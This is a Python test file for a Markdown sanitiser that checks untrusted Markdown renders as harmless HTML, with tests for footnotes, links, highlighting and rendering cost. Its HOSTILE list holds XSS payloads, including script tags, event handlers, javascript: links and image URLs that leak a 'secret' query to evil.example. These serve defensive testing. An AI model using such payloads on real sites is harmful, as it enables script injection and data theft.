"""Sanitised rendering of untrusted Markdown."""

import re
import sys
from html import unescape

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from support.cpu_time import within
from support.played_runs import acting_tokens

from artifactflow_nb.core.text.content_style import LANGUAGES, highlight
from artifactflow_nb.core.text.markdown import MarkdownRenderer, escape, footnotes, safe_markdown, safe_markdown_line
from artifactflow_nb.core.text.markdown_stream import MAX_BLOCK_CHARS
from artifactflow_nb.core.text.shortened import GrowingText, html_blocks

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![pixel](https://evil.example/p.png?q=secret)",
    "![x][ref]\n\n[ref]: https://evil.example/p.png",
    "[go](javascript:alert(1))",
    "[go](JaVaScRiPt&colon;alert(1))",
    "[go](data:text/html,<script>alert(1)</script>)",
    "[go](vbscript:x)",
    '[x](https://ok.example/"onmouseover="alert(1))',
    "<iframe src=https://evil.example></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<style>@import url(https://evil.example/x.css)</style>",
    "<svg><animate onbegin=alert(1)>",
    "a `b` \\`<img src=https://evil.example/q>\\`",
    "<im\ng src=https://evil.example/q>",
    "- ```\n</details><img src=https://evil.example/q>",
    "~~~\n" + "x\n" * 3000 + "\n<img src=https://evil.example/q>",
    "\x00<\x00img src=x onerror=alert(1)>",
]
MARKUP = st.text(alphabet="<>[]()!`~*_-|#\\&:/ \n\"'=aimgsrcx1$", max_size=200)


@pytest.fixture(scope="module")
def markdown() -> MarkdownRenderer:
    return MarkdownRenderer()


def assert_harmless(html: str) -> None:
    assert not re.search(
        r"<(?!/?(?:p|br|hr|h[1-6]|[uo]l|li|blockquote|pre|code|em|strong|s|table|thead|tbody|tr|t[hd]|a|span|sup|b|i|samp|semantics|annotation|m(?!glyph)\w+)\b)",
        html,
    )
    assert not re.search(r"<[^>]*\s(?:on\w+|src|srcset)\s*=", html)
    assert all(
        address.startswith(("http://", "https://", "mailto:", "#")) for address in re.findall(r'href="([^"]*)"', html)
    )


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_markdown_is_harmless_html(markdown: MarkdownRenderer, text: str) -> None:
    """Scripts, handlers, images, frames, styles and unsafe addresses are removed."""
    assert_harmless(markdown.html(text))


@given(MARKUP)
def test_any_markdown_is_harmless_html(text: str) -> None:
    """Any mixture of markup characters gives only the allowed elements."""
    assert_harmless(MarkdownRenderer().html(text))


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_markdown_is_harmless_markdown(text: str) -> None:
    """A parser that allows HTML and images finds neither in the sanitised Markdown."""
    assert not acting_tokens(safe_markdown(text))


@given(MARKUP)
def test_any_markdown_is_harmless_markdown(text: str) -> None:
    """A parser that allows HTML and images finds neither in any sanitised mixture of markup characters."""
    assert not acting_tokens(safe_markdown(text))


def test_image_becomes_a_link(markdown: MarkdownRenderer) -> None:
    """An image is not loaded; its alternative text links to it."""
    html = markdown.html("![a chart](https://example.org/c.png)")
    assert "<img" not in html
    assert 'href="https://example.org/c.png"' in html
    assert "a chart</a>" in html


def test_links_open_in_a_new_tab_without_referrer(markdown: MarkdownRenderer) -> None:
    """A link has no referrer and no opener."""
    html = markdown.html("[docs](https://docs.python.org)")
    assert 'rel="noopener noreferrer nofollow"' in html
    assert 'target="_blank"' in html


def test_scrollable_elements_are_reachable_by_keyboard(markdown: MarkdownRenderer) -> None:
    """Code and tables, which may scroll, can be focused; other elements cannot."""
    html = markdown.html("~~~\ncode\n~~~\n\n|a|\n|-|\n|1|\n\nA [link](https://example.org).\n\n- an item")
    assert '<pre tabindex="0"><code>code' in html
    assert '<table tabindex="0">' in html
    assert html.count("tabindex") == 2


def test_local_addresses_and_citations_are_text(markdown: MarkdownRenderer) -> None:
    """`local:` addresses and citations are not links."""
    html = markdown.html("See [with](local:py#with) and [1].\n\n[1]: A page")
    assert html.count("<a ") == 0
    assert "with (local:py#with) and [1]." in html


@pytest.mark.timed
@pytest.mark.parametrize(
    "piece", ["[", "> ", "*a ", "![", "- ", "`", "|a", "<", "[a](", "$", "$$x\n", "\\(", "\\[x\n", "$x_$ "]
)
def test_hostile_nesting_is_cheap(piece: str) -> None:
    """Twenty thousand brackets, quotes or list markers render within a second."""
    for attempt in within(1):
        with attempt:
            MarkdownRenderer().html(piece * 20_000)


def test_repeated_block_is_rendered_once(markdown: MarkdownRenderer) -> None:
    """A repeated block comes from the cache."""
    first = markdown.render_block("remember *this*")
    hits = markdown.render_block.cache_info().hits
    assert markdown.render_block("remember *this*") is first
    assert markdown.render_block.cache_info().hits == hits + 1


def test_safe_markdown_keeps_code_and_structure() -> None:
    """Code, tables and links are unchanged; prices are not formulas."""
    text = "Costs $5 or `a < b`.\n\n```html\n<b>$x</b>\n```\n\n| a |\n|---|\n| 1 |\n\n[x](https://e.org)"
    expected = text.replace("Costs $5", r"Costs \$5").split("\n\n")
    assert [part.strip() for part in re.split(r"\n{2,}", safe_markdown(text))] == expected


@pytest.mark.parametrize("text", ["It costs $5, and $$6.", r"\$5 \\$6 \\\$7", "$5 ![a](b) <i>", "`$5` $6"])
def test_sanitising_twice_changes_nothing(text: str) -> None:
    """Sanitised Markdown is safe already, and no dollar sign of a price starts a formula."""
    once = safe_markdown(text)
    assert safe_markdown(once) == once
    assert not re.search(r"(?<!\\)(?:\\\\)*\$", re.sub("`.*?`", "", once))


@given(st.text(alphabet="()[]\\$`*_!#<>&^ a1.x", max_size=30))
@example("Nitrate (太湖) in [mg/L]")
@example(r"\(x\) and \[y\] \\(z\\)")
@example("[a](javascript:b) and [^1] and [1]")
def test_escaped_line_is_displayed_as_it_is(text: str) -> None:
    """No character of a title begins a formula, a link or a footnote, in the renderer and in exported Markdown."""
    line = safe_markdown_line(text)
    for markdown in (f"# x {line} x", safe_markdown(f"# x {line} x")):
        shown = MarkdownRenderer().html(markdown)
        assert unescape(re.sub("<[^>]*>", "", shown)).split() == f"x {text} x".split()
    assert not re.search(r"\\[(\[]", line)


PLAIN_TAGS = [
    ("H<sub>2</sub>O", "H<sub>2</sub>O", "H<sub>2</sub>O"),
    ("| a |\n|---|\n| one<br>two<BR/> |", "one<br>two<br>", "one<br>two<BR/>"),
    ("<b>CO<sub>2</sub></b> <i>x</i>", "<b>CO<sub>2</sub></b> <i>x</i>", "<b>CO<sub>2</sub></b> <i>x</i>"),
    ("open <b>bold", "open &lt;b&gt;bold", "open &lt;b>bold"),
    (
        "`<br>` </b> <b onclick=x>y</b>",
        "<code>&lt;br&gt;</code> &lt;/b&gt; &lt;b",
        "`<br>` &lt;/b> &lt;b onclick=x>y&lt;/b>",
    ),
]


@pytest.mark.parametrize(("text", "shown", "exported"), PLAIN_TAGS)
def test_plain_tags_are_understood(markdown: MarkdownRenderer, text: str, shown: str, exported: str) -> None:
    """Line breaks, bold, italic, subscript and superscript without attributes are rendered; other tags stay text."""
    assert shown in markdown.html(text).replace("<br>\n", "<br>")
    assert exported in safe_markdown(text)


def test_escape_leaves_no_markup() -> None:
    """Escaped names and parameters are text, also inside attributes."""
    assert escape("<b a=\"1\" b='2'>&") == "&lt;b a=&quot;1&quot; b=&#x27;2&#x27;&gt;&amp;"


def test_bare_addresses_are_links(markdown: MarkdownRenderer) -> None:
    """An address with a scheme or `www.` is a link; a name with a dot and a local address are not."""
    html = markdown.html("See https://example.org/a_(b)?x=1, example.org, docs/www.example.org and local:py#with.")
    assert '<a href="https://example.org/a_(b)?x=1" target="_blank"' in html
    assert html.count("<a ") == 1
    html = markdown.html("See www.example.org/x?y. (Or www.example.com, `www.code.example`.)")
    assert re.findall('href="(.*?)".*?>(.*?)</a>', html) == [
        ("http://www.example.org/x?y", "www.example.org/x?y"),
        ("http://www.example.com", "www.example.com"),
    ]


def test_chinese_punctuation_ends_an_address(markdown: MarkdownRenderer) -> None:
    """Chinese has no space after a full stop, so text after a full stop is no part of the address."""
    html = markdown.html("见 https://example.org/a。另见（www.example.org）：好。")
    assert re.findall('href="(.*?)"', html) == ["https://example.org/a", "http://www.example.org"]
    assert ">https://example.org/a</a>。另见（<a " in html


def test_task_boxes_and_footnotes(markdown: MarkdownRenderer) -> None:
    """A task has a check box; a footnote mark and its text have a superscript."""
    html = markdown.html("- [ ] open\n- [x] done\n\nText[^1], `[ ]`.\n\n[^1]: The note.")
    assert '<li><span class="af-box">☐ </span>open</li>' in html
    assert '<span class="af-box">☑ </span>done' in html
    html = re.sub("</?a[^>]*>", "", html)
    assert 'Text<sup title="The note.">1</sup>, <code>[ ]</code>.' in html
    assert "<p><sup>1</sup> The note.</p>" in html


def test_footnotes_are_numbered_by_first_reference(markdown: MarkdownRenderer) -> None:
    """Names and other numbers do not show; marks within code are no references, and the tooltip has no marks.

    A note without a reference is left out.
    """
    html = markdown.html(
        "`[^code]` Rise[^note], sink[^7], rise again[^note].\n\n"
        "[^7]: See *this* [page](https://example.org/a>b).\n\n[^note]: First.\n\n[^rest]: Not referred to."
    )
    html = re.sub("</?a[^>]*>", "", html)
    tip = "See this page(https://example.org/ab)."
    assert f'Rise<sup title="First.">1</sup>, sink<sup title="{tip}">2</sup>, rise again<sup title="First.">1' in html
    assert "<code>[^code]</code>" in html
    assert "<p><sup>2</sup> See <em>this</em>" in html
    assert "<p><sup>1</sup> First.</p>" in html
    assert "Not referred to." not in html


def test_each_footnote_is_a_paragraph(markdown: MarkdownRenderer) -> None:
    """Notes on consecutive lines are not joined; a name may have dots; a line that continues a note stays with it."""
    html = markdown.html("A[^2020.winter] and B[^b].\n\n[^2020.winter]: One\nmore.\n[^unused]: None.\n[^b]: Two.")
    html = re.sub("</?a[^>]*>", "", html)
    assert "A<sup" in html
    assert "<p><sup>1</sup> One\nmore.</p>" in html
    assert "<p><sup>2</sup> Two.</p>" in html
    assert "None." not in html
    assert "2020.winter" not in html


def test_footnotes_in_a_list_are_paragraphs(markdown: MarkdownRenderer) -> None:
    """Each note is a paragraph of its own, and its tooltip has its own words; in exports, too."""
    html = markdown.html("A[^1] and B[^2].\n\n1. [^1]: One\n2. [^2]: Two")
    html = re.sub("</?a[^>]*>", "", html)
    assert '<sup title="One">1</sup> and B<sup title="Two">2</sup>' in html
    assert "<li>" not in html
    assert re.findall("<p><sup>. ?</sup>.*", html) == ["<p><sup>1</sup> One</p>", "<p><sup>2</sup> Two</p>"]
    assert safe_markdown("[^1]: One\n[^2]: Two").splitlines()[1:2] == [""]


@pytest.mark.parametrize(
    ("text", "n_items"),
    [
        ("[3] says so, see https://x.example/a for more.", 0),
        ("It rises.\n[1] says so: https://x.example/a", 0),
        ("[1] Tides: https://x.example/a", 1),
        ("Sources:\n[1] Tides, https://x.example/a", 1),
        ("**Sources**\n[1] Tides, https://x.example/a", 1),
        ("[1] Tides, https://x.example/a, read in May\n[3] Waves (local:waves) and more", 2),
    ],
)
def test_lines_of_sources_are_a_list_and_sentences_are_not(markdown: MarkdownRenderer, text: str, n_items: int) -> None:
    """A sentence that begins with a citation mark and names an address is not a line of a list of sources."""
    html = markdown.html(text)
    assert html.count("<li") == n_items
    assert html.count("[1]") + html.count("[3]") == (0 if n_items else 1)
    assert len(re.findall("^- ", safe_markdown(text), re.MULTILINE)) == n_items


def test_footnotes_are_linked_with_their_marks(markdown: MarkdownRenderer) -> None:
    """A note links back to its first mark. No id occurs twice, even if another text is on the same page."""
    html = markdown.html("Rise[^a] and[^a], fall[^b].\n\nRise[^a], [see](#a).\n\n[^a]: One.\n[^b]: Two.")
    html += markdown.html("Rise[^a].\n\n[^a]: Another one.")
    ids, addresses = re.findall(' id="(.*?)"', html), re.findall('href="#(.*?)"', html)
    assert len(ids) == len(set(ids)) == 6
    assert set(addresses) - {"a"} == set(ids)
    note = ids[2]
    assert ids[0] == f"{note}-mark"
    assert f'<p><sup><a href="#{note}-mark" id="{note}">1</a></sup> One.</p>' in html
    assert html.count(f'<sup title="One."><a href="#{note}"') == 3
    assert "_blank" not in html


def test_code_is_highlighted_once_it_is_complete(markdown: MarkdownRenderer) -> None:
    """Keywords, texts and comments of known languages have elements of their own, but not while the code grows."""
    code = "```python\ndef f():\n    return 'a'  # <b>\n```\n"
    html = markdown.html(code)
    assert '<code class="af-code af-python"><b>def</b> <strong>f</strong>():' in html
    assert "<em>'a'</em>  <i># &lt;b&gt;</i>" in html
    assert "af-code" not in "".join(html_blocks(GrowingText(code[:-4]), markdown))
    assert "af-code" in "".join(html_blocks(GrowingText(code.strip()), markdown))
    assert "af-code" not in markdown.html("```nonsense\ndef f(): pass\n```")


@pytest.mark.timed
@pytest.mark.parametrize("language", sorted(LANGUAGES))
def test_hostile_code_is_highlighted_at_little_cost(language: str) -> None:
    """A block of brackets, quotes and comment signs takes less than a second in each language."""
    for piece in ("([{<'\"", "a b c d ", "/*<!--#{", "'''\\\"", "$(`${", "@a{b:", "- a: &x\n"):
        for attempt in within(1):
            with attempt:
                highlight(piece * (MAX_BLOCK_CHARS // len(piece)), language)


def test_cost_of_footnotes_is_linear() -> None:
    """Twice the notes take twice the calls, with marks and texts in blocks of their own."""

    def n_calls(n: int) -> int:
        blocks = [*(f"a[^{i}]" for i in range(n)), *(f"[^{i}]: Note." for i in range(n))]
        renderer, calls = MarkdownRenderer(), 0

        def count(_frame: object, event: str, _argument: object) -> None:
            nonlocal calls
            calls += event in {"call", "c_call"}

        sys.setprofile(count)
        try:
            renderer.html("\n\n".join(blocks))
        finally:
            sys.setprofile(None)
        return calls

    n_calls(5)  # imports
    assert n_calls(200) < 2.3 * n_calls(100)


def test_notes_of_a_text_are_compared_by_one_number() -> None:
    """The cache of blocks compares the notes for each block, so the cost must not depend on their number."""
    blocks = ["a[^1] b[^2]", "[^1]: One.\n[^2]: Two."]
    assert footnotes(blocks) == footnotes(list(blocks))
    assert footnotes(blocks) != footnotes([blocks[0], "[^1]: One.\n[^2]: Other."])
    assert footnotes(blocks) != footnotes(["Another a[^1] b[^2]", blocks[1]])
